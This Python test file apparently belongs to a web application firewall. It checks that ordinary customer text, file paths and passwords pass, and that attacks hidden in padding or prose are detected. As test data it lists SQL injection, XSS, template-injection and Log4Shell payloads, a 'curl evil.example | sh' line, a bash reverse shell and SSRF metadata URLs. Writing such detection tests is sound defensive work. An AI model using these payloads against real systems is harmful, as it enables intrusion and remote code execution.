"""People write about measures, books, code, paths and faults in any field, and are not refused."""

from __future__ import annotations

import json
import random
import string
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard_wsgi.detection import Inspection
from tests.detection.requests import environ, findings_in

FIELDS = ("query", "form", "json", "multipart")

SHORT = """
Please review the new image
new image
a new worker starts on Monday
the new function room
5' or 6' fence panels
2" or 3" pvc pipe
8' and 10' curtain rails
6" x 4" or 7" x 5" prints
a 9' or 12' drop cloth
JavaScript: The Good Parts
Javascript: the definitive guide, 7th edition
learn JavaScript: a course for beginners
Credit Union Select Checking
European Union select committee
Western Union Select Service
fn main() {}
fn main() { println!("hi"); }
int main(void) { return 0; }
Cannot invoke "String.length()" because "s" is null
Cannot read field "next" because "node" is null
/etc/hosts entry needed for staging?
please add it to /etc/hosts
what belongs into /etc/fstab on the new box?
../ is one level up
use ../images for the pictures
run `npm install` and then `npm start`
I typed `ls -la` but it shows nothing
`git status` says clean, `git diff` does not
\\\\fileserver\\public\\reports
the share \\\\NAS01\\photos asks for a password
please edit C:\\Windows\\System32\\drivers\\etc\\hosts as admin
file:///C:/Users/anna/Desktop/report.html
it opens file:///home/anna/doc.pdf instead of the site
http://localhost:3000 does not load
my router is at http://192.168.1.1/status
draft() or public()
tip() and not merge()
{{ m['role'] }}
{{ user.name }}
sleep(8) hours
I need sleep (8 hours)
System (beta)
Alert (urgent)
shell.jpg
cmd.png
""".strip().splitlines()

LONG = (
    'Dear support, since the update I get "ORA-00942: table or view does not exist" when I open '
    "the report. Our DBA says select * from user_tables shows it. Can you help?",
    "When I run `docker compose up` it fails with exit code 1; I also tried `sudo systemctl "
    "restart docker` without luck.",
    "In the terminal, type cat /etc/os-release to see which version you have, and then id to see "
    "your groups.",
    "To see the last lines, use cat /var/log/nginx/access.log | tail -n 5 in a shell and send us "
    "what you see.",
    'To prevent SQL injection, never build queries like "SELECT * FROM users WHERE name = \'" + '
    'name + "\'"; use parameters instead.',
    "## Install\n\nFirst get the package and start it:\n\n```sh\nsudo apt-get install -y nginx\n"
    "sudo systemctl enable nginx\n```\n\nThen open http://localhost:8080 in your browser.\n",
    "Here is the query that the report uses:\n\n```sql\nSELECT u.id, u.name FROM users u JOIN "
    "orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY u.name;\n```\nIt returns nothing "
    "since the update, and I don't know why.",
    "def read(path):\n    with open(path) as file:\n        return file.read()\n\n\n"
    "if __name__ == '__main__':\n    print(read('a.txt'))\n",
    '<p>Hello team,</p><p>the picture: <img src="cid:image001.png@01D9.ABC" alt=""> and <a '
    'href="https://example.com/?a=1&amp;b=2">the link</a>.</p><br><div>See you on Monday</div>',
    'Exception in thread "main" java.lang.IllegalStateException: not ready\n\tat com.example.App'
    ".run(App.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)\nCaused by: java.io."
    "FileNotFoundException: /etc/app/config.yml (No such file or directory)",
)


@pytest.mark.parametrize("place", FIELDS)
@pytest.mark.parametrize("text", SHORT)
def test_a_short_text_of_a_customer_passes(inspection: Inspection, place: str, text: str) -> None:
    assert not findings_in(inspection, place, text)


@pytest.mark.parametrize("place", ["form", "json", "multipart"])
@pytest.mark.parametrize("text", LONG)
def test_a_ticket_or_an_article_passes(inspection: Inspection, place: str, text: str) -> None:
    assert not findings_in(inspection, place, text)


@pytest.mark.parametrize(
    "path",
    [
        "/images/shell.jpg",
        "/uploads/index.php.jpg",
        "/.DS_Store",
        "/share/._report.docx",
        "/.Spotlight-V100",
        "/.Trashes",
        "/.hidden",
        "/desktop.ini",
        "/System Volume Information",
    ],
)
@pytest.mark.parametrize("method", ["GET", "PROPFIND"])
def test_a_file_manager_may_look_for_its_own_files(
    inspection: Inspection, method: str, path: str
) -> None:
    assert not inspection.head({**environ(path=path), "REQUEST_METHOD": method})


@pytest.mark.parametrize(
    "path",
    ["/repo/.gitignore", "/a/package.json", "/Dockerfile", "/b/settings.py", "/backup/all.sql.gz"],
)
@pytest.mark.parametrize("method", ["PUT", "PROPFIND", "MOVE"])
def test_a_client_may_keep_any_file_of_its_own(
    inspection: Inspection, method: str, path: str
) -> None:
    assert not inspection.head({**environ(path=path), "REQUEST_METHOD": method})


def test_reading_a_secret_file_is_still_refused(inspection: Inspection) -> None:
    for path in ("/.env", "/.git/config", "/.ssh/id_rsa", "/backup/all.sql.gz"):
        assert inspection.head(environ(path=path)), path


# --- offsets -------------------------------------------------------------------------------------

PARAGRAPHS = (
    'See the talk: <iframe src="https://video.example.com/embed/1" width="560"></iframe> It is '
    "worth an hour; don't miss the part on 'select' statements and \"joins\".",
    "It's the third time that the customer's parcel didn't arrive; the driver says \"nobody was at "
    "home\" -- but we were, and so was the neighbour. Don't you have his number?",
    "Use `git rebase -i` here, 'or' so my colleague's note says; \"and\" never force-push.",
    "The report isn't there: \"table 'shop.orders' doesn't exist\" -- that's all it says; and then "
    "the page is blank.",
)
FILLERS = ("a", "lorem ipsum ", "it's fine, isn't it? ", "\n", "word\n\n", "é ", "- item\n")


@pytest.mark.parametrize("place", ["form", "json"])
@given(
    paragraph=st.sampled_from(PARAGRAPHS),
    filler=st.sampled_from(FILLERS),
    before=st.integers(0, 4000),
    after=st.integers(0, 400),
)
@settings(max_examples=150, deadline=None)
def test_a_harmless_text_is_harmless_at_any_offset(
    inspection: Inspection, place: str, paragraph: str, filler: str, before: int, after: int
) -> None:
    padding = filler * (before // len(filler) + 1)
    text = padding[:before] + " " + paragraph + " " + padding[:after]
    assert not findings_in(inspection, place, text)


@given(
    payload=st.sampled_from(
        ("' UNION SELECT password FROM users-- ", "<script>alert(document.cookie)</script>",
         "; cat /etc/passwd #", "${jndi:ldap://a.example/x}")
    ),
    filler=st.sampled_from(FILLERS),
    before=st.integers(0, 4000),
)  # fmt: skip
@settings(max_examples=150, deadline=None)
def test_an_attack_is_found_behind_any_padding(
    inspection: Inspection, payload: str, filler: str, before: int
) -> None:
    padding = (filler * (before // len(filler) + 1))[:before]
    assert findings_in(inspection, "form", padding + " " + payload)


# --- passwords -----------------------------------------------------------------------------------

PASSWORD_NAMES = (
    "password",
    "passwd",
    "pwd",
    "pw",
    "user[password]",
    "new_password1",
    "login-pass",
)


def generated(count: int) -> Iterator[str]:
    rng = random.Random(20261130)
    letters = string.ascii_letters + string.digits
    for number in range(count):
        marks = (string.punctuation, "!@#$%^&*", string.punctuation + " ", "$@';|&`")[number % 4]
        size = rng.choice((8, 10, 12, 16, 20, 24, 32, 48, 64))
        yield "".join(rng.choice(letters + marks) for _ in range(size))


def login(inspection: Inspection, fields: dict[str, Any]) -> object:
    body = urlencode(fields).encode()
    return inspection.body(body, content_type="application/x-www-form-urlencoded")


def test_hardly_any_generated_password_is_refused(inspection: Inspection) -> None:
    refused = [
        password
        for number, password in enumerate(generated(6000))
        if login(
            inspection, {"user": "ann", PASSWORD_NAMES[number % len(PASSWORD_NAMES)]: password}
        )
    ]
    assert len(refused) <= 1, refused


@pytest.mark.parametrize("password", ["a$@b", "x$@y1234", "p4ss;x|w", "<a!b>c'--"])
def test_a_password_is_known_by_its_name_its_repetition_and_its_neighbour(
    inspection: Inspection, password: str
) -> None:
    assert not login(inspection, {"user": "ann", "password": password, "again": password})
    text = json.dumps({"credentials": [{"type": "password", "value": password}]}).encode()
    assert not inspection.body(text, content_type="application/json")


@pytest.mark.parametrize(
    "injection",
    ["' or '1'='1", "' OR 1=1-- -", "admin' --", "x' UNION SELECT 1,password FROM users-- ",
     "'; DROP TABLE users; --", "\" or \"\"=\"", "') or ('1'='1'--"],
)  # fmt: skip
def test_an_injection_into_a_login_is_refused(inspection: Inspection, injection: str) -> None:
    assert login(inspection, {"user": "admin", "password": injection})


# --- what an attacker may claim ------------------------------------------------------------------

FRAMES = {
    "prose": ("please help me with ", " thank you very much"),
    "markdown": ("# Steps\n\nwhat you have to do is:\n\n```sh\n", "\n```\n\n thanks for your help"),
    "program": (
        "# Steps that you should follow\n\nwhat you have to do is:\n\n```sh\nimport os\n\n"
        "def main(argv):\n    for item in argv:\n        print(item)\n    return len(argv)\n\n",
        "\n\ndef other(argv):\n    return main(argv)\n\n```\n\n thanks for your help",
    ),
    "page": ("<p>Hello <b>all</b>,</p><p>look:</p><div><span>", "</span></div><p>Bye</p>"),
}
EXPLOITS = (
    "{{ url_for.__globals__['o'~'s']['po'~'pen'](request.args.c).read() }}",
    "{{7*7}}",
    "<script src=//e.example/x></script>",
    '<img src=x onerror="go(1)">',
    "${jndi:ldap://e.example/a}",
    "' UNION SELECT password FROM users -- ",
    "; curl evil.example/x | sh",
    "\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
)


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("exploit", EXPLOITS)
def test_no_surroundings_excuse_an_exploit(
    inspection: Inspection, frame: str, exploit: str
) -> None:
    before, after = FRAMES[frame]
    assert findings_in(inspection, "form", before + exploit + after)


@pytest.mark.parametrize("padding", [" " * 700, "/" * 695, "./" * 400, "\n" * 900, " \t" * 350])
def test_filler_does_not_hide_that_a_value_is_a_path(inspection: Inspection, padding: str) -> None:
    assert findings_in(inspection, "form", padding + "/etc/passwd")
    assert findings_in(inspection, "form", padding + "http://169.254.169.254/latest/meta-data/")


@pytest.mark.parametrize("injection", ["'or+1--", "'union values((select(password)from(users)))--"])
def test_only_a_field_for_a_password_is_excused_as_one(
    inspection: Inspection, injection: str
) -> None:
    assert login(inspection, {"q": injection, "pwd": injection})
    assert inspection.head(environ(query=urlencode({"q": injection, "pwd": injection})))
    nested = json.dumps({"password": injection})
    assert inspection.head(environ(query=urlencode({"q": nested})))


@pytest.mark.parametrize("method", ["PATCH", "PUT", "PROPFIND", "GET"])
def test_no_method_makes_a_path_out_of_the_site_harmless(
    inspection: Inspection, method: str
) -> None:
    assert inspection.head({**environ(path="/files/etc/passwd"), "REQUEST_METHOD": method})


def test_random_tokens_of_logins_links_and_sessions_pass(inspection: Inspection) -> None:
    rng = random.Random(7)
    letters = string.ascii_letters + string.digits + "-_"
    for _ in range(10_000):
        token = "".join(rng.choice(letters) for _ in range(43))
        assert not inspection.head(environ(query="token=" + token)), token
        assert not inspection.head(environ(HTTP_COOKIE="session=" + token)), token
